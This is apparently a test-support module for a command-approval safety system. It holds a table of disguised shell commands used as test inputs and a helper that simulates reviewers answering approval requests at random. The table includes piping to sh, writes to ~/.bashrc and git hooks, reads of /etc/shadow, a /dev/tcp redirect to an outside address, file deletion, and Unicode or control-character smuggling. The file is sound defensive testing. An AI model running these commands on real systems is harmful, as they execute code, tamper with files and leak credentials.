"""Commands that look harmless, and people at one inbox who answer at random."""

from __future__ import annotations

import random
import threading
from functools import cache

from manual_slop.safety.inbox import Inbox
from manual_slop.values.approval import Answer, Request
from tests.support.approvals import command
from tests.support.shared import shared_path

# Each looks like one of the first few, or like something harmless, and does something else.
TABLE = (
    "ls",
    "git status",
    "cat README.md",
    "echo ok",
    "pytest -q",
    # operators
    "ls; id",
    "ls && id",
    "ls || id",
    "ls | sh",
    "ls & id",
    "ls > ~/.bashrc",
    "ls >> .git/hooks/pre-commit",
    "ls < /etc/passwd",
    "ls 2>&1 >/dev/tcp/192.0.2.1/80",
    "cat <<< id | sh",
    "cat <<E | sh\nid\nE",
    "ls |& sh",
    "! ls",
    "{ ls; id; }",
    "(ls; id)",
    # substitutions
    "ls $(id)",
    "ls `id`",
    'ls "$(id)"',
    "ls ${HOME:-$(id)}",
    "ls $((a[$(id)]))",
    "cat <(id)",
    "ls >(sh)",
    "$(echo id)",
    "ls ${x:=`id`}",
    "ls $'\\x3b' id",
    "git${IFS}status;id",
    "ls ~+/../..",
    "ls {a,b}/../../x",
    # lines
    "ls\nid",
    "ls\rid",
    "ls\r\nid",
    "ls \\\nid",
    "ls # \nid",
    "ls\u2028id",
    "ls\x85id",
    "ls\x0bid",
    "ls\x00id",
    "ls" + "\n" * 200 + "id",
    "ls" + " " * 500 + "; id",
    # look-alikes
    "l\u0455",
    "ls\u200b",
    "ls\u00a0",
    "ls ",
    " ls",
    "LS",
    "\ufeffls",
    "ls\u202e di ;",
    "\x1b[2K\x1b[1Gls",
    "git\tstatus",
    "git  status",
    "git status\u037e id",
    # wrappers
    "env ls",
    "env -S 'sh -c id'",
    "timeout 1 sh -c id",
    "nohup sh -c id",
    "nice -n 1 sh -c id",
    "time sh -c id",
    "xargs -a x sh -c",
    "find . | xargs rm",
    "command ls",
    "exec ls",
    "eval ls",
    "builtin source x",
    "sudo ls",
    "setsid ls",
    "stdbuf -o0 sh -c id",
    "busybox sh -c id",
    "watch -x sh -c id",
    "ssh localhost ls",
    # unsafe flags of safe programs
    "find . -exec sh -c id ;",
    "find . -delete",
    "find . -fprintf x y",
    "rg --pre sh x",
    "rg --search-zip x",
    "sed -n 'w x' README.md",
    "sed '1e id' README.md",
    "sort -o x README.md",
    "sort --compress-program=sh README.md",
    "tar --checkpoint-action=exec=sh -cf x .",
    "tar -I sh -xf x",
    "git -c core.pager=sh log",
    "git -c core.fsmonitor=./x status",
    "git --exec-path=. status",
    "git diff --ext-diff",
    "git grep --open-files-in-pager=sh x",
    "awk 'BEGIN{system(\"id\")}'",
    "less +!id README.md",
    "man -P sh ls",
    "date -f /etc/shadow",
    "tee x",
    "dd if=/dev/zero of=x",
    "python -c 'import os'",
    "pytest -p x",
    "pytest -q --rootdir=/ x.py",
    "cat README.md -- /etc/passwd",
    # environment prefixes
    "PAGER=sh git log",
    "LD_PRELOAD=./x.so ls",
    "BASH_ENV=x bash -c ls",
    "GIT_SSH_COMMAND=sh git fetch",
    "PATH=.:$PATH ls",
    "PS4='$(id)' SHELLOPTS=xtrace ls",
    "export PAGER=sh; git log",
    "alias ls=id; ls",
    "ls() { id; }; ls",
    "IFS=/; ls",
    "PYTHONSTARTUP=x python",
)


@cache
def corpus() -> tuple[str, ...]:
    """Command injections as they are collected, one a line."""
    folder = shared_path("corpora", "paths", "commands")
    return tuple(line for path in sorted(folder.glob("*.txt")) for line in path.read_text("utf-8").splitlines())


class Desk:
    """Several people at one inbox who answer at random, also twice, also for the wrong thing."""

    def __init__(self, inbox: Inbox, seed: int) -> None:
        self.approved: set[tuple[str, str]] = set()
        self.closing = threading.Event()
        self._inbox = inbox
        self._random = random.Random(seed)
        self._lock = threading.Lock()
        self._waiting = threading.Semaphore(0)
        inbox.listen(lambda request, answer: self._waiting.release() if answer is None else None)

    def work(self) -> None:
        while not self.closing.is_set():
            self._waiting.acquire(timeout=0.05)
            pending = list(self._inbox.pending())
            self._random.shuffle(pending)
            for request in pending[:4]:
                self._answer(request)

    def _answer(self, request: Request) -> None:
        digest = request.action.digest
        assert not self._inbox.answer(request.id, command("something else").digest, Answer("approve"))
        yes = self._random.random() < 0.5
        with self._lock:
            if self._inbox.answer(request.id, digest, Answer("approve" if yes else "refuse")) and yes:
                self.approved.add((request.action.session_id, request.action.arguments))
        assert not self._inbox.answer(request.id, digest, Answer("approve"))
